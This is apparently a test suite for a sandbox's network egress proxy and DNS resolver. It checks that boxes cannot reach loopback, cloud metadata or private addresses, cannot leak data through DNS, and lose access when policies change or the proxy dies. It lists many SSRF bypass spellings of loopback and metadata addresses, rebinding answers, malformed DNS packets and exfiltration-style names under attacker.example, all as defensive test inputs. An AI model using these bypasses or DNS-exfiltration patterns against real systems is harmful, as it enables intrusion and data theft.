"""D1, D4, D5, D14 to D18 at the door: what policies, names, other boxes and a door that is gone let through."""
import contextlib
import os
import pathlib
import signal
import socket
import struct
import time

from door_ground import PYTHON, ground, parent_of
from programs import kill
from rig import DEADLINE, NotApplicable, alive, case, need, wait_until

# A client that tries every way to one place, and says what came.
EVERY_WAY = """
def ways(host, port):
    return [talk(host, port, get('/', host), 8),
            proxy(b'GET http://%s:%d/ HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (host.encode(), port, host.encode(),
            port), 8),
            proxy(b'CONNECT %s:%d HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (host.encode(), port, host.encode(), port),
                  8)]
"""


def nothing_leaves(g, box, hosts=("raw.test", "web.test", "127.0.0.1", "10.0.0.2")):
    """No way to any of these: every answer is the door's own no, or nothing; nobody was asked for a name."""
    g.raw.clear()
    asked = len(g.dns.questions)
    got = g.run(EVERY_WAY + "say([[status(a) for a in ways(h, port)] for h in hosts])", box, hosts=list(hosts),
                port=g.raw.port)
    need(all(s in (0, 400, 403, 502) for row in got for s in row), f"answers {got}")
    need(not g.raw.all(), f"the upstream got {g.raw.all()[:200]!r}")
    need(len(g.dns.questions) == asked, f"names were asked for: {g.dns.questions[asked:][:5]}")
    return f"{len(hosts) * 3} ways"


# ---- D1: no policy is no way out ----

BROKEN = {
    "empty": b"", "only_spaces": b" \n\n", "only_a_comment": b"# nothing\n", "null": b"null\n", "tilde": b"~\n",
    "empty_object": b"{}\n", "no_rules": b"version: 1\n", "rules_null": b"version: 1\nrules: null\n",
    "a_list": b"[]\n", "a_word": b"open\n", "a_number": b"1\n", "wrong_version": b"version: 2\nrules: []\n",
    "no_version": b"rules:\n  - allow: '*'\n", "half_a_file": b"version: 1\nrules:\n  - allow: \"*",
    "not_yaml": b"version: 1\nrules:\n\t- allow: *\n", "binary": bytes(range(256)), "nul": b"version: 1\nrules: []\0\n",
    "unknown_key": b"version: 1\nalow: '*'\nrules:\n  - allow: '*'\n    ports: any\n    private: true\n",
    "unknown_rule_key": b"version: 1\nrules:\n  - allow: '*'\n    ports: any\n    privat: true\n",
    "a_key_twice": b"version: 1\nrules:\n  - allow: raw.test\n    allow: '*'\n",
    "an_alias": b"version: 1\nrules: &a\n  - allow: '*'\n  - *a\n",
    "two_documents": b"version: 1\nrules: []\n---\nversion: 1\nrules:\n  - allow: '*'\n",
    "empty_host": b"version: 1\nrules:\n  - allow: ''\n", "empty_hosts": b"version: 1\nrules:\n  - allow: []\n",
    "star_in_the_middle": b"version: 1\nrules:\n  - allow: 'raw.*'\n",
    "a_url": b"version: 1\nrules:\n  - allow: 'http://raw.test/'\n",
    "not_utf8": b"version: 1\nrules:\n  - allow: 'raw.test\xff'\n",
    "too_big": b"version: 1\nrules: []\n" + b"#" * (2 << 20),
    "too_deep": b"version: 1\nrules: " + b"[" * 2000 + b"]" * 2000,
    "missing_secret": b"version: 1\nrules:\n  - allow: '*'\n    private: true\n    inject: {headers: {A: '{{ "
                      b"secret.NOT_THERE }}'}}\n",
}


def broken_policy(name, text):
    @case(f"D1_policy_{name}", "D1", "such a policy is refused with its fault, or the box has no way out")
    def run(rig):
        g = ground(rig)
        path = g.dir / f"broken-{name}.yaml"
        path.write_bytes(text)
        made = rig.cove("create", *rig.flags(), "--net", path)
        if made.rc != 0:
            made.refused()
            return made.errors.strip()[:120]
        box = made.text.strip()
        try:
            return "a box without a way out: " + nothing_leaves(g, box)
        finally:
            rig.cove("rm", "-f", box)


for _name, _text in BROKEN.items():
    broken_policy(_name, _text)


@case("D1_policy_missing_file", "D1", "a policy file that is not there makes no box")
def missing_file(rig):
    g = ground(rig)
    return rig.cove("create", "--net", g.dir / "nowhere.yaml").refused().errors.strip()[:120]


@case("D1_policy_is_a_directory", "D1", "nor does a directory")
def directory(rig):
    g = ground(rig)
    return rig.cove("create", "--net", g.dir).refused().errors.strip()[:120]


@case("D1_policy_unreadable", "D1", "nor does a file that cannot be read")
def unreadable(rig):
    g = ground(rig)
    if rig.is_root:
        raise NotApplicable("root reads every file")
    path = g.policy(g.rules())
    path.chmod(0)
    return rig.cove("create", "--net", path).refused().errors.strip()[:120]


@case("D1_policy_unknown_preset", "D1", "nor does a preset that there is none of")
def unknown_preset(rig):
    return rig.cove("create", "--net", "opne").refused().errors.strip()[:120]


@case("D1_closed_has_no_way", "D1", "a closed box has no resolver, no proxy and no door")
def closed(rig):
    g = ground(rig)
    box = rig.make("--net", "closed")
    try:
        nothing_leaves(g, box)
        need(not g.doors(box), "a closed box has a door")
    finally:
        rig.cove("rm", "-f", box)


@case("D1_apply_broken_policy", "D1", "a broken policy is not applied, and what held before holds")
def apply_broken(rig):
    g = ground(rig)
    with g.own_box(g.rules()) as box:
        g.works(box)
        for name in ("empty", "null", "half_a_file", "unknown_key", "binary", "missing_secret"):
            path = g.dir / f"apply-{name}.yaml"
            path.write_bytes(BROKEN[name])
            rig.cove("policy", "apply", box, path).refused()
        g.works(box)
        got = g.run("say(lookup('elsewhere.example')[0])", box)
        need(got == 3, f"a name that no rule allows: {got}")


def spoilt_on_disk(name, spoil):
    @case(f"D1_reload_{name}", "D1", "a policy spoilt on disk means closed for the next door, and for one that reloads")
    def run(rig):
        g = ground(rig)
        with g.own_box(g.rules()) as box:
            g.works(box)
            path = os.path.join(rig.cove.home, "boxes", box, "policy")
            need(os.path.exists(path), "the policy is not where it was")
            spoil(path)
            # A grant makes the door read everything again.
            rig.cove("allow", box, "unrelated.example")
            first = nothing_leaves(g, box)
            for pid in g.doors(box):
                with contextlib.suppress(ProcessLookupError):  # one ends with the other
                    os.kill(pid, signal.SIGKILL)
            nothing_leaves(g, box)
            return first


spoilt_on_disk("emptied", lambda path: open(path, "w").close())
spoilt_on_disk("removed", os.unlink)
spoilt_on_disk("garbage", lambda path: open(path, "wb").write(os.urandom(4096)))
spoilt_on_disk("cut", lambda path: os.truncate(path, os.path.getsize(path) // 2))


def replace_by_directory(path):
    os.unlink(path)
    os.mkdir(path)


spoilt_on_disk("directory", replace_by_directory)


# ---- D3, D4: what names and addresses mean ----

ODD = ["127.0.0.1", "127.1", "2130706433", "0x7f.1", "0x7f000001", "0177.0.0.1", "017700000001", "127.0.0.1.",
       "127.000.000.001", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "[::]",
       "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[64:ff9b::127.0.0.1]", "[2002:7f00:1::]", "[::1%25lo]", "[::1%lo]",
       "[fe80::1%25lo]", "0.0.0.0", "0", "localhost", "LOCALHOST", "localhost.", "127.0.0.1%00.raw.test",
       "0x7f.0x0.0x0.0x1", "127.0.1", "127.65535.1", "①②⑦.0.0.1", "127。0。0。1", "[::ffff:0:127.0.0.1]",
       "[0000::1]", "[::0001]", "ip6-localhost", "localhost.localdomain", "169.254.169.254", "[fd00:ec2::254]",
       "100.100.100.200", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "10.0.0.1", "172.16.0.1",
       "192.168.1.1", "198.18.0.1", "255.255.255.255", "224.0.0.1"]


@case("D3_every_spelling_of_loopback", "D3",
      "CONNECT and absolute URLs to every spelling of loopback, metadata and private addresses are refused, though a "
      "rule allows all names")
def odd_spellings(rig):
    g = ground(rig)
    with g.own_box([{"allow": "*", "private": False}]) as box:
        got = g.run("""
out = {}
for h in odd:
    b = h.encode()
    out[h] = [status(proxy(b'CONNECT %s:%d HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (b, port, b, port), 8)),
              status(proxy(b'GET http://%s:%d/ HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (b, port, b, port), 8))]
say(out)""", box, odd=ODD, port=rig.canary.tcp.getsockname()[1])
        let = {h: s for h, s in got.items() if any(200 <= x < 400 for x in s)}
        need(not let, f"let through: {let}")
        need(all(s != [0, 0] for h, s in got.items() if h.isascii()), f"no answer: {got}")
        allowed = [r for r in g.rows(box) if r.get("verdict") == "allow" and r.get("address")]
        need(not allowed, f"dialled: {allowed[:3]}")
        return f"{len(ODD) * 2} requests"


@case("D4_name_with_private_address", "D4", "a name that may be used but has a loopback address is not dialled")
def private_address(rig):
    g = ground(rig)
    g.dns.table["rebind.test"] = ["127.0.0.1"]
    got = g.run(EVERY_WAY + "say([status(a) for a in ways('rebind.test', port)])",
                port=rig.canary.tcp.getsockname()[1])
    need(all(s in (0, 403, 502) for s in got), f"answers {got}")
    row = [r for r in g.rows(g.box) if r.get("host") == "rebind.test" and r.get("verdict") == "deny"]
    need(row, "the record does not say that it was denied")
    return row[-1].get("reason", "")


@case("D4_first_public_then_private", "D4",
      "a name whose address changes between question and connection: the address that is dialled is the one checked")
def rebinding(rig):
    g = ground(rig)
    for i, answers in enumerate(([["192.0.2.1"], ["127.0.0.1"]], [["127.0.0.1"], ["192.0.2.1"]],
                                 [["192.0.2.1", "127.0.0.1"]], [["::1"]], [["::ffff:127.0.0.1"]],
                                 [["127.0.0.1", "127.0.0.2", "::1"]])):
        name = f"n{i}.rebind.test"
        # 192.0.2.1 is documentation's: refused as well, so nothing leaves this machine.
        g.dns.table[name] = [list(a) for a in answers]
        got = g.run(EVERY_WAY + "say([status(a) for a in ways(name, port)])", name=name,
                    port=rig.canary.tcp.getsockname()[1])
        need(all(s in (0, 403, 502, 504) for s in got), f"{answers}: {got}")
    return "6 kinds of answers"


@case("D4_metadata_by_name", "D4", "a name that resolves to a metadata or private address is not dialled")
def metadata_by_name(rig):
    g = ground(rig)
    for i, address in enumerate(("169.254.169.254", "fd00:ec2::254", "100.100.100.200", "10.1.2.3", "64:ff9b::7f00:1",
                                 "2002:7f00:1::", "0.0.0.0", "::", "255.255.255.255", "fe80::1")):
        name = f"m{i}.rebind.test"
        g.dns.table[name] = [address]
        got = g.run("say(status(proxy(b'CONNECT %s:80 HTTP/1.1\\r\\nHost: %s:80\\r\\n\\r\\n' % (name.encode(), "
                    "name.encode()))))",
                    name=name)
        need(got in (403, 502), f"{address}: {got}")
    return "10 addresses"


# ---- D5: names say nothing to the outside ----

@case("D5_denied_name_is_not_asked", "D5", "a denied name does not exist, and no question leaves")
def denied_name(rig):
    g = ground(rig)
    before = len(g.dns.questions)
    got = g.run("""
out = []
for name in ('denied.test', 'x.denied.example', 'secret-data.attacker.example', 'raw.test.evil.example', 'notraw.test'):
    for kind in (1, 28, 16, 15, 255, 2, 6, 65, 33, 12):
        for tcp in (False, True):
            out.append(rcode(ask(question(name, kind), tcp)))
say(sorted(set(out)))""")
    need(len(g.dns.questions) == before, f"asked for: {g.dns.questions[before:][:5]}")
    need(not set(got) - {3, 0, 4}, f"answer codes {got}")
    need(3 in got, f"answer codes {got}")


@case("D5_long_labels", "D5", "labels that carry data out are not asked for below a name that no rule allows")
def long_labels(rig):
    g = ground(rig)
    before = len(g.dns.questions)
    got = g.run("""
out = []
for size in (1, 32, 62, 63):
    for depth in (1, 2, 3):
        name = '.'.join(['a' * size] * depth) + '.attacker.example'
        out.append(rcode(ask(question(name))))
say(out)""")
    need(len(g.dns.questions) == before, "a question left")
    need(set(got) <= {3, 1}, f"answer codes {got}")


@case("D5_types_do_not_leave", "D5", "of an allowed name only its address is asked for: no TXT, no NULL, no flags")
def other_types(rig):
    g = ground(rig)
    before = len(g.dns.questions)
    g.run("""
for kind in (16, 10, 15, 255, 252, 251, 65535, 0, 99, 64, 65):
    ask(question('pass.test', kind), seconds=3)
say(1)""")
    kinds = {kind for _, kind in g.dns.questions[before:]}
    need(kinds <= {1, 28}, f"types {kinds} were asked for")


MESSAGES = {
    "nul_in_a_label": "question(encode_name([b'raw\\0evil', b'test']))",
    "dot_in_a_label": "question(encode_name([b'raw.test', b'evil', b'example']))",
    "label_is_the_name": "question(encode_name([b'raw.test']))",
    "space_in_a_label": "question(encode_name([b'raw test', b'example']))",
    "high_bytes": "question(encode_name([b'r\\xc3\\xa4w', b'test']))",
    "too_long_name": "question(encode_name([b'a' * 63] * 5))",
    "label_of_64": "question(b'\\x40' + b'a' * 64 + b'\\x04test\\0')",
    "pointer_to_itself": "question(b'\\xc0\\x0c')",
    "pointer_beyond": "question(b'\\xc0\\xff')",
    "pointer_chain": "question(b'\\x03raw\\xc0\\x0c')",
    "no_question": "question('raw.test', count=0)",
    "two_questions": "question('raw.test', count=2) + encode_name([b'evil', b'example']) + b'\\0\\1\\0\\1'",
    "chaos_class": "question('version.bind', 16, klass=3)",
    "any_class": "question('denied.example', klass=255)",
    "an_answer": "question('denied.example', flags=0x8180)",
    "opcode_update": "question('denied.example', flags=0x2800)",
    "opcode_notify": "question('denied.example', flags=0x2000)",
    "half_a_head": "question('raw.test')[:11]",
    "half_a_name": "question('raw.test')[:15]",
    "empty": "b''",
    "one_byte": "b'x'",
    "all_ones": "b'\\xff' * 512",
    "huge": "question('denied.example') + b'x' * 60000",
    "edns_huge": "question('denied.example', extra=b'\\0\\0\\x29\\xff\\xff\\0\\0\\0\\0\\0\\0', more=1)",
    "edns_version": "question('denied.example', extra=b'\\0\\0\\x29\\x10\\0\\0\\xff\\0\\0\\0\\0', more=1)",
    "edns_option": "question('denied.example', "
                   "extra=b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x0c\\0\\x0a\\0\\x08COOKIE!!', more=1)",
    "edns_twice": "question('denied.example', extra=b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\0' * 2, more=2)",
    "many_records": "question('denied.example', more=65535)",
}


def odd_message(name, text):
    @case(f"D5_message_{name}", "D5", "an odd question brings no address and no question outside; the resolver lives")
    def run(rig):
        g = ground(rig)
        before = len(g.dns.questions)
        got = g.run(f"m = {text}\nsay([[rcode(a), addresses(a) if rcode(a) == 0 else []] for a in "
                    "(ask(m, seconds=1), ask(m, True, seconds=2))] + [lookup('raw.test')])")
        need(not got[0][1] and not got[1][1], f"an address came: {got}")
        need(got[2][0] == 0 and got[2][1], f"afterwards raw.test: {got[2]}")
        asked = {n for n, _ in g.dns.questions[before:]}
        need(asked <= {"raw.test"}, f"asked outside: {asked}")
        return f"codes {got[0][0]}, {got[1][0]}"


for _name, _text in MESSAGES.items():
    odd_message(_name, _text)


@case("D5_mixed_case", "D5", "0x20: a name in any case is the same name, and is asked for in one spelling")
def mixed_case(rig):
    g = ground(rig)
    got = g.run("say([lookup('raw.test')[1], lookup('RAW.test')[1], lookup('rAw.TeSt')[1], lookup('DENIED.test')[0]])")
    need(got[0] and got[0] == got[1] == got[2] and got[3] == 3, f"{got}")
    need(all(n == n.lower() for n, _ in g.dns.questions), "a question kept its case")


def plain_name(wire):
    labels, at = [], 0
    while wire[at]:
        labels.append(wire[at + 1:at + 1 + wire[at]].decode("latin-1").lower())
        at += 1 + wire[at]
    return ".".join(labels)


def with_alias(g, name, target, address):
    """Answers for name become: it is another name for target, which has that address. Returns what was before."""
    plain = g.dns.answer

    def answer(query):
        full = plain(query)
        at = query.index(b"\0", 12) + 1
        if plain_name(query[12:at]) != name or query[at:at + 2] != b"\0\1":
            return full
        wire = b"".join(bytes([len(p)]) + p.encode() for p in target.split(".")) + b"\0"
        records = (b"\xc0\x0c\0\5\0\1\0\0\0\5" + struct.pack("!H", len(wire)) + wire +
                   wire + b"\0\1\0\1\0\0\0\5\0\4" + socket.inet_aton(address))
        return full[:2] + struct.pack("!HHHHH", 0x8180, 1, 2, 0, 0) + query[12:at + 4] + records
    g.dns.answer = answer
    return plain


@case("D5_alias", "D5", "an alias (CNAME) leads to the address at its end, which is checked as every address is; the "
      "name behind it is not asked for by itself")
def alias(rig):
    g = ground(rig)
    ask = ("say(status(proxy(b'CONNECT %s:%d HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % "
           "(name.encode(), port, name.encode(), port), 8, until=b'\\r\\n\\r\\n')))")
    before = len(g.dns.questions)
    for name, port, good in (("alias.rebind.test", rig.canary.tcp.getsockname()[1], (403, 502)),
                             ("alias.web.test", g.raw.port, (200,))):
        plain = with_alias(g, name, "denied.test", "127.0.0.1")
        try:
            got = g.run(ask, name=name, port=port)
        finally:
            g.dns.answer = plain
        need(got in good, f"{name}: {got}")
    asked = {n for n, _ in g.dns.questions[before:]}
    need("denied.test" not in asked, f"asked for {asked}")


@case("D5_synthetic_address_is_one_name", "D5", "an address that was given out for a name means that name for ever, "
                                                "and "
      "for no other port's rule")
def synthetic(rig):
    g = ground(rig)
    g.raw.clear()
    got = g.run("""
raw, evil = lookup('raw.test')[1][0], lookup('evil.test')[1][0]
again = [lookup('raw.test')[1][0] for _ in range(5)]
say([raw, evil, again, status(talk(raw, port, get('/a', 'evil.test:%d' % port))), status(talk(raw, port, get('/b',
    'raw.test:%d' % port)))])""",
                port=g.raw.port)
    need(got[0] != got[1] and set(got[2]) == {got[0]}, f"{got}")
    need(got[3] in (403, 421) and got[4] == 200, f"Host of another name: {got[3]}; the right one: {got[4]}")
    need(b"/a" not in g.raw.all(), "it was sent")


@case("D5_resolver_tcp_half", "D5", "half a question over TCP holds nobody up")
def tcp_half(rig):
    g = ground(rig)
    got = g.run("""
socks = [dial(*STUB) for _ in range(40)]
for s in socks: s.sendall(b'\\0\\x20\\x12')
say(lookup('raw.test')[0])""")
    need(got == 0, f"{got}")


# ---- D14: others ----

@case("D14_other_box", "D14", "a box cannot reach another box's ports, by any address")
def other_box(rig):
    g = ground(rig)
    with g.own_box([{"allow": "*", "private": False}]) as other:
        listener = g.start("""
s = socket.create_server(('0.0.0.0', 4477)); print('up', flush=True)
s.settimeout(60)
try:
    c, a = s.accept(); print('reached', a, flush=True)
except OSError:
    print('nobody', flush=True)
""", other)
        try:
            need(listener.stdout.readline() == b"up\n", "the listener did not start")
            got = g.run("""
say([talk(a, 4477, b'x', 4) for a in ('127.0.0.1', '127.0.0.2', '0.0.0.0', '10.0.0.2', '198.18.0.1', '::1')]
    + [status(proxy(b'CONNECT %s:4477 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' % a)) for a in (b'127.0.0.1', b'[::1]',
        b'localhost', b'raw.test')])""")
            need(not any(got[:6]) and 200 not in got[6:9], f"{got}")
        finally:
            listener.kill()
            said = listener.communicate(timeout=DEADLINE)[0]
        need(b"reached" not in said, f"{said!r}")


@case("D14_proxy_through_itself", "D14", "the proxy does not lead to itself, the redirect or the resolver of the box")
def through_itself(rig):
    g = ground(rig)
    got = g.run("""
out = []
for a in ('127.0.0.1:3128', '127.0.0.1:61128', '127.0.0.53:53', 'localhost:3128', '[::1]:61128', '0.0.0.0:3128',
          '198.18.0.1:80'):
    out.append(status(proxy(b'CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (a.encode(), a.encode()), 8)))
say(out)""")
    need(all(s in (400, 403, 502) for s in got), f"{got}")


@case("D14_sockets_of_the_host_are_not_dialled", "D14",
      "the keeper's socket, other doors and the host's abstract socket are no destination of a door")
def unix_destinations(rig):
    g = ground(rig)
    got = g.run("""
out = []
for a in (b'unix:/run/x', b'/run/docker.sock', b'@' + name.encode(), b'unix', b'%2frun%2fdocker.sock',
          b'\\0' + name.encode()):
    out.append(status(proxy(b'CONNECT ' + a + b':80 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', 8)))
    out.append(status(proxy(b'GET http://' + a + b'/ HTTP/1.1\\r\\nHost: ' + a + b'\\r\\n\\r\\n', 8)))
say(out)""", name=rig.canary.abstract_name)
    need(all(s in (0, 400, 403) for s in got), f"{got}")


# ---- D15, D16: while connections are open ----

HOLD = """
sock = tunnel(host, port)
if isinstance(sock, bytes):
    print('refused', sock, flush=True); sys.exit(1)
print('open', flush=True)
sys.stdin.readline()
try:
    sock.sendall(b'after\\r\\n\\r\\n')
    got, ended = read_all(sock, 8, most=3)
except OSError as e:
    got = b''
print(json.dumps(got.decode('latin-1')), flush=True)
"""


def held_open(g, box, change, host="pass.test", sent=b"after"):
    """Opens a connection, changes something, and sees whether anything still passes on it."""
    g.raw.clear()
    client = g.start(HOLD, box, host=host, port=g.raw.port)
    try:
        need(client.stdout.readline() == b"open\n", "no connection to begin with")
        change()
        out, err = client.communicate(b"go\n", timeout=DEADLINE)
    finally:
        if client.poll() is None:
            client.kill()
            client.wait()
    need(sent not in g.raw.all(), "bytes passed on a connection that is not allowed any more")
    need(out.strip() in (b'""', b""), f"{out!r} {err[-300:]!r}")


@case("D15_apply_cuts", "D15", "a policy that does not allow an open connection cuts it")
def apply_cuts(rig):
    g = ground(rig)
    with g.own_box(g.rules()) as box:
        other = g.policy([{"allow": "evil.test", "tls": "intercept"}])
        held_open(g, box, lambda: rig.cove("policy", "apply", box, other).ok())
        nothing_leaves(g, box, ("pass.test",))
        g.works(box)


@case("D15_deny_cuts", "D15", "`cove deny` cuts an open connection, and the next one is refused")
def deny_cuts(rig):
    g = ground(rig)
    with g.own_box(g.rules()) as box:
        held_open(g, box, lambda: rig.cove("deny", box, "pass.test").ok())
        nothing_leaves(g, box, ("pass.test",))


@case("D15_grant_ends", "D15", "what `cove allow --for` let in is over when its time is")
def grant_ends(rig):
    g = ground(rig)
    with g.own_box(g.rules()) as box:
        nothing_leaves(g, box, ("rest.example",))
        rig.cove("allow", box, "rest.example", "--for", "1s").ok()
        time.sleep(1.2)  # the time itself is what is tried
        nothing_leaves(g, box, ("rest.example",))


@case("D15_denied_request_on_a_kept_connection", "D15",
      "each request of an open connection is judged by the policy of its moment")
def kept_connection(rig):
    g = ground(rig)
    with g.own_box([{"name": "raw", "allow": "raw.test", "methods": ["GET", "POST"]}]) as box:
        g.raw.clear()
        client = g.start("""
s = secure('raw.test', port)
s.sendall(b'GET /one HTTP/1.1\\r\\nHost: raw.test:%d\\r\\n\\r\\n' % port)
print(status(read_all(s, 12, most=3)[0]), flush=True)
sys.stdin.readline()
try:
    s.sendall(b'POST /two HTTP/1.1\\r\\nHost: raw.test:%d\\r\\nContent-Length: 3\\r\\n\\r\\nabc' % port)
except OSError:
    pass
print(status(read_all(s, 12, most=3)[0]), flush=True)
""", box, port=g.raw.tls_port)
        need(client.stdout.readline() == b"200\n", "the first request did not pass")
        rig.cove("policy", "apply", box, g.policy([{"name": "raw", "allow": "raw.test", "methods": ["GET"]}])).ok()
        out, _ = client.communicate(b"\n", timeout=DEADLINE)
        need(out.strip() in (b"403", b"0"), f"{out!r}")
        need(b"/two" not in g.raw.all(), "it was sent")


def door_gone(name, held, hurt, mend=None):
    @case(f"D16_{name}", "D16", held)
    def run(rig):
        g = ground(rig)
        with g.own_box(g.rules()) as box:
            g.works(box)
            pids = g.doors(box)
            need(len(pids) >= 2, f"proxy and broker were not found: {pids}")
            held_open(g, box, lambda: hurt(g, pids))
            if mend:
                mend(pids)
            wait_until(lambda: rig.answers(box), "the box to answer")
            g.works(box, "when the door is back")


def kill_all(_g, pids):
    for pid in pids:
        kill(pid)  # the broker may have ended with its proxy


def kill_broker(_g, pids):
    """What was recorded before may pass until the proxy has seen it: that it ends is what counts."""
    os.kill(pids[1], signal.SIGKILL)
    wait_until(lambda: not alive(pids[0]), "the proxy to end with its broker")


door_gone("door_killed", "a killed door's connections fail, and the next request gets a new door", kill_all)
door_gone("proxy_killed", "so with the proxy alone", lambda g, pids: kill_all(g, pids[:1]))
door_gone("broker_killed", "without its broker a door lets nothing pass unrecorded: it ends",
          kill_broker)


@case("D16_door_stopped", "D16", "while a door hangs nothing passes by it, and the box goes on", slow=True)
def door_stopped(rig):
    g = ground(rig)
    with g.own_box(g.rules()) as box:
        g.works(box)
        proxy = g.doors(box)[0]
        os.kill(proxy, signal.SIGSTOP)
        try:
            g.raw.clear()
            asked = len(g.dns.questions)
            got = g.run("say([talk('192.0.2.1', 80, b'x', 3), status(proxy(get('http://raw.test:%d/' % port, "
                        "'raw.test:%d' % port), 3))])",
                        box, port=g.raw.port)
            need(got[0] == "" and got[1] in (0, 502, 504), f"{got}")
            need(not g.raw.all() and len(g.dns.questions) == asked, "something passed")
            need(rig.answers(box), "the box does not answer")
        finally:
            if alive(proxy):
                os.kill(proxy, signal.SIGCONT)
        wait_until(lambda: g.run("say(status(https('evil.test', port, get('/', 'evil.test:%d' % port))))", box,
                                 port=g.evil.tls_port) == 200, "the door to be back")


@case("D16_launcher_killed", "D16", "without the launcher there is no new door, and nothing passes without one")
def launcher_killed(rig):
    g = ground(rig)
    with g.own_box(g.rules()) as box:
        g.works(box)
        doors = g.doors(box)
        launcher = parent_of(doors[0])
        need(launcher != rig.keeper(box), "the door is the keeper's own child")
        for pid in (launcher, *doors):
            if alive(pid):
                os.kill(pid, signal.SIGKILL)
        nothing_leaves(g, box)
        need(rig.answers(box), "the box does not answer")


@case("D16_door_missing", "D16", "a door that cannot be started lets nothing pass, and says why")
def door_missing(rig):
    g = ground(rig)
    door = rig.cove.prefix / "libexec/cove/cove-door"
    away = str(rig.base / "x")
    # Another directory of programs, with a door that cannot run.
    os.mkdir(away)
    for name in os.listdir(door.parent):
        os.symlink(door.parent / name, os.path.join(away, name))
    os.unlink(os.path.join(away, "cove-door"))
    open(os.path.join(away, "cove-door"), "w").close()
    before, rig.cove.env["COVE_LIBEXEC"] = rig.cove.env["COVE_LIBEXEC"], away
    try:
        made = rig.cove("create", *rig.flags(), "--net", g.policy(g.rules()))
        if made.rc != 0:
            return made.refused().errors.strip()[:160]
        try:
            nothing_leaves(g, made.text.strip())
        finally:
            rig.cove("rm", "-f", made.text.strip())
    finally:
        rig.cove.env["COVE_LIBEXEC"] = before


# ---- D17, D18 ----

@case("D17_without_proxy_variables", "D17", "a client that knows no proxy has the same way, judged the same")
def no_variables(rig):
    g = ground(rig)
    g.raw.clear()
    result = rig.cove.run_json(g.box, "/usr/bin/env", "-i", PYTHON, "-B", "-c",
                               "import socket\n"
                               f"def t(h):\n  try:\n    s = socket.create_connection((h, {g.raw.port}), 60)\n"
                               "    s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); s.settimeout(60)\n"
                               "    return s.recv(99)\n  except OSError: return b''\n"
                               "print([t(h) for h in ('denied.test', '192.0.2.1', 'elsewhere.example')])")
    need(result["stdout"].strip() == "[b'', b'', b'']", f"{result['stdout']!r} {result['stderr'][-300:]!r}")
    need(not g.raw.all(), "something came through")


def budget(name, held, send, **rule):
    @case(f"D18_{name}", "D18", held)
    def run(rig):
        g = ground(rig)
        with g.own_box([{"name": "budget", "allow": "budget.test", **rule}]) as box:
            g.raw.clear(b"")
            got = g.run(send, box, port=g.raw.port, tls=g.raw.tls_port)
            size = len(g.raw.all())
            need(size <= (10 << 10) + 512, f"{size} bytes left with a budget of 10 KiB ({got})")
            g.run(send, box, port=g.raw.port, tls=g.raw.tls_port)
            need(len(g.raw.all()) <= (10 << 10) + 512, "a second connection has a budget of its own")
            return f"{size} bytes"


budget("upload_budget", "no more bytes go up than the rule's budget, over all connections", """
n = 0
try:
    s = dial('budget.test', port)
    for i in range(300):
        s.sendall(b'x' * 1024); n += 1024
except OSError:
    pass
say(n)""", bytes_up="10KiB")
budget("upload_drip", "nor one byte at a time", """
n = 0
try:
    s = dial('budget.test', port)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for i in range(12000):
        s.sendall(b'x'); n += 1
except OSError:
    pass
say(n)""", bytes_up="10KiB")
budget("upload_budget_in_requests", "nor in the bodies of requests that are intercepted", """
n = 0
for i in range(12):
    n += len(https('budget.test', tls, get('/up', 'budget.test:%d' % tls, 'Content-Length: 2048', method='POST',
                                           body=b'x' * 2048), 2))
say(n)""", bytes_up="10KiB", tls="intercept")


@case("D18_box_budget", "D18", "--net-bytes bounds a box's life, both ways, also over a door that was killed")
def box_budget(rig):
    g = ground(rig)
    with g.own_box([{"allow": "budget.test"}], "--net-bytes", "10K") as box:
        g.raw.clear(b"")
        send = """
try:
    s = dial('budget.test', port)
    s.sendall(b'x' * 6000)
    read_all(s, 2)
except OSError:
    pass
say(1)"""
        g.run(send, box, port=g.raw.port)
        kill_all(g, g.doors(box))
        g.run(send, box, port=g.raw.port)
        g.run(send, box, port=g.raw.port)
        size = sum(len(d) for d in g.raw.got)
        need(size <= 10240 + 64, f"{size} bytes left")
        return f"{size} bytes"


@case("D18_connection_cap", "D18", "--net-conns bounds the connections at once")
def connection_cap(rig):
    g = ground(rig)
    with g.own_box([{"allow": "budget.test"}], "--net-conns", "5") as box:
        g.raw.clear(b"")
        got = g.run("""
socks = [tunnel('budget.test', port) for _ in range(12)]
say(sum(not isinstance(s, bytes) for s in socks))""", box, port=g.raw.port)
        need(got == 5, f"{got} connections at once")


@case("D18_audit_flood", "D18", "a box that floods its audit log waits: no row is lost, and its network stays")
def audit_flood(rig):
    g = ground(rig)
    rules = [*g.rules(), {"name": "flood", "allow": "budget.test", "paths": ["/ok"]}]
    with g.own_box(rules) as box:
        g.works(box, "before")
        began = time.monotonic()
        refused = g.run("""
import threading, time
done, end = [0] * 8, time.monotonic() + 10
def flood(k):
    s = None
    while done[k] < 3000 and time.monotonic() < end:
        try:
            s = s or dial('budget.test', port)
            s.sendall(get('/%d/%d/%s' % (k, done[k], 'x' * 1900), 'budget.test:%d' % port))
            answer = s.recv(65536)
            done[k] += bool(answer)
            if not answer or b'close' in answer:
                s = None
        except OSError:
            s = None
threads = [threading.Thread(target=flood, args=(k,)) for k in range(8)]
[t.start() for t in threads]
[t.join() for t in threads]
say(sum(done))""", box, port=g.raw.port)
        log, = pathlib.Path(rig.cove.home, "audit", "boxes").glob(f"{box}.*")
        size, took = sum(p.stat().st_size for p in log.iterdir()), time.monotonic() - began
        rows = sum(r.get("path", "").endswith("x") for r in g.rows(box, "--denied"))
        need(refused > 500, f"only {refused} requests came to the door")
        need(rows >= refused, f"{refused} requests were refused, {rows} are written down")
